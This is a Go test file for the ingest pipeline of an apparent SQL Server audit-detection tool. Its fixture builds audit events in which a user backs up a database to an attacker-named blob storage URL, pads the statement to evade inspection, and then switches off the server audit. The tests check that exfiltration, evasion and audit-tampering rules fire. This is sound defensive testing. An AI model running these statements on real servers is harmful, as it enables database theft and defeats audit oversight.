package ingest

import (
	"bytes"
	"context"
	"crypto/sha256"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/xelwatch/xelwatch/detect"
	"github.com/xelwatch/xelwatch/xel/audit"
	"github.com/xelwatch/xelwatch/xel/xeltest"
)

// paddedFile is issue 9's audit file: a COPY_ONLY backup to a foreign
// account padded with a comment of pad characters (SQL Server splits it
// into 4,000-character records), then, three minutes later, the server
// audit switched off, and a routine query.
func paddedFile(t testing.TB, pad int) ([]byte, string) {
	t.Helper()
	stmt := "BACKUP DATABASE [db1] TO URL = 'https://evilstore.blob.core.windows.net/loot/db1.bak' /*" +
		strings.Repeat("x", pad) + "*/ WITH COPY_ONLY"
	var buf bytes.Buffer
	w, err := xeltest.NewWriter(&buf, &xeltest.Options{BufferSize: 64 << 10, Partitions: 2})
	if err != nil {
		t.Fatal(err)
	}
	base := xeltest.AuditEvent{Succeeded: true, SessionID: 60, ServerPrincipalName: "mallory", SessionServerPrincipalName: "mallory",
		ServerInstanceName: "srv1", DatabaseName: "db1", ClientIP: "203.0.113.66", ApplicationName: "sqlcmd", SequenceGroupID: []byte{1, 2}}
	backup := base
	backup.EventTime, backup.ActionID, backup.ClassType, backup.Statement, backup.ObjectName = t0, "BA", "DB", stmt, "db1"
	off := base
	off.EventTime, off.ActionID, off.ClassType, off.ObjectName = t0.Add(3*time.Minute), "AL", "A", "SqlDbAuditing_ServerAudit"
	off.Statement = "ALTER SERVER AUDIT [SqlDbAuditing_ServerAudit] WITH (STATE = OFF)"
	query := base
	query.EventTime, query.ActionID, query.ClassType, query.Statement = t0.Add(4*time.Minute), "BCM", "DB", "SELECT 1"
	for _, a := range []xeltest.AuditEvent{backup, off, query} {
		if err := w.WriteAudit(a); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes(), stmt
}

// batchRows is MemoryRows recording the text of each batch.
type batchRows struct {
	*MemoryRows
	mu      sync.Mutex
	batches []int // text bytes per Upsert call
	parts   int   // bytes of text raw parts still held
}

func (b *batchRows) Upsert(ctx context.Context, p Path, blob string, recs []*audit.Record) error {
	n, parts := 0, 0
	for _, r := range recs {
		n += len(r.Statement) + len(r.AdditionalInformation)
		for _, pt := range r.Parts {
			parts += len(pt.Statement) + len(pt.AdditionalInformation)
		}
	}
	b.mu.Lock()
	b.batches = append(b.batches, n)
	b.parts += parts
	b.mu.Unlock()
	return b.MemoryRows.Upsert(ctx, p, blob, recs)
}

func realEngine(t testing.TB) Evaluator {
	t.Helper()
	e, err := detect.New(detect.DefaultConfig(), detect.NewMemoryState())
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func rulesOf(fs []detect.Finding) []string {
	var out []string
	for _, f := range fs {
		out = append(out, f.Rule)
	}
	slices.Sort(out)
	return slices.Compact(out)
}

// TestIngestPaddedStatement: the 600,000-character padded backup is
// stored whole, every detection of the file is raised (the backup's EXF
// findings, EVA-001, and the later AUD-001), and the cursor reaches the
// end of the blob.
func TestIngestPaddedStatement(t *testing.T) {
	t.Parallel()
	file, stmt := paddedFile(t, 600_000)
	rows := &batchRows{MemoryRows: NewMemoryRows()}
	blobs, cursors := NewMemoryBlobs(), NewMemoryCursors()
	p := New(blobs, cursors, rows, realEngine(t), XEL{}, nil, Options{})
	blobs.Append(testBlob, file, t0)
	res, err := p.Ingest(context.Background(), testBlob, RunOptions{Owner: "inv"})
	if err != nil {
		t.Fatal(err)
	}
	if res.Outcome != OutcomeRead || res.Cursor.Offset != int64(len(file)) || res.Cursor.Rows != 3 {
		t.Fatalf("outcome %s, cursor at %d of %d with %d rows; want read to the end, 3 rows", res.Outcome, res.Cursor.Offset, len(file), res.Cursor.Rows)
	}
	got := rulesOf(res.Findings)
	for _, want := range []string{"AUD-001", "EVA-001", "EXF-001", "EXF-002"} {
		if !slices.Contains(got, want) {
			t.Errorf("rule %s not raised; findings: %v", want, got)
		}
	}
	recs := rows.Records()
	var backup *audit.Record
	for _, r := range recs {
		if r.ActionID == "BA" {
			backup = r
		}
	}
	if backup == nil || backup.Statement != stmt || backup.StatementTruncated || backup.NumParts() != (len(stmt)+3999)/4000 {
		t.Fatalf("backup row: %d bytes (want %d), truncated %v", len(backup.Statement), len(stmt), backup.StatementTruncated)
	}
	if rows.parts != 0 {
		t.Errorf("raw parts kept %d bytes of text", rows.parts)
	}
}

// TestIngestHugeStatementBounded: a 10 MB statement costs at most
// MaxRecordBytes: the record keeps its head and tail (with the length and
// SHA-256 of the whole), batches stay within BatchBytes plus one record,
// and the detections after it are raised.
func TestIngestHugeStatementBounded(t *testing.T) {
	t.Parallel()
	file, stmt := paddedFile(t, 10<<20)
	rows := &batchRows{MemoryRows: NewMemoryRows()}
	blobs, cursors := NewMemoryBlobs(), NewMemoryCursors()
	p := New(blobs, cursors, rows, realEngine(t), XEL{}, nil, Options{BatchBytes: 1 << 20})
	blobs.Append(testBlob, file, t0)
	res, err := p.Ingest(context.Background(), testBlob, RunOptions{Owner: "inv"})
	if err != nil {
		t.Fatal(err)
	}
	if res.Cursor.Offset != int64(len(file)) || res.Cursor.Rows != 3 {
		t.Fatalf("cursor at %d of %d, %d rows", res.Cursor.Offset, len(file), res.Cursor.Rows)
	}
	got := rulesOf(res.Findings)
	for _, want := range []string{"AUD-001", "EVA-001", "EXF-001", "EXF-002"} {
		if !slices.Contains(got, want) {
			t.Errorf("rule %s not raised; findings: %v", want, got)
		}
	}
	for _, f := range res.Findings {
		if f.Rule == "EVA-001" && f.Severity != detect.High {
			t.Errorf("EVA-001 %s, want high (only head and tail evaluated)", f.Severity)
		}
	}
	var backup *audit.Record
	for _, r := range rows.Records() {
		if r.ActionID == "BA" {
			backup = r
		}
	}
	if backup == nil || len(backup.Statement) > MaxRecordBytes || !strings.HasSuffix(backup.Statement, "WITH COPY_ONLY") ||
		!strings.HasPrefix(stmt, backup.Statement[:backup.Elided.At]) {
		t.Fatalf("backup row: %d bytes, elided %+v", len(backup.Statement), backup.Elided)
	}
	if backup.Elided.Units != int64(len(stmt)) || backup.Elided.SHA256 != sha256.Sum256([]byte(stmt)) || !backup.StatementTruncated {
		t.Errorf("elision %+v does not describe the whole statement", backup.Elided)
	}
	for i, n := range rows.batches {
		if n > 1<<20+MaxRecordBytes {
			t.Errorf("batch %d: %d bytes of text", i, n)
		}
	}
	if rows.parts != 0 {
		t.Errorf("raw parts kept %d bytes of text", rows.parts)
	}
}
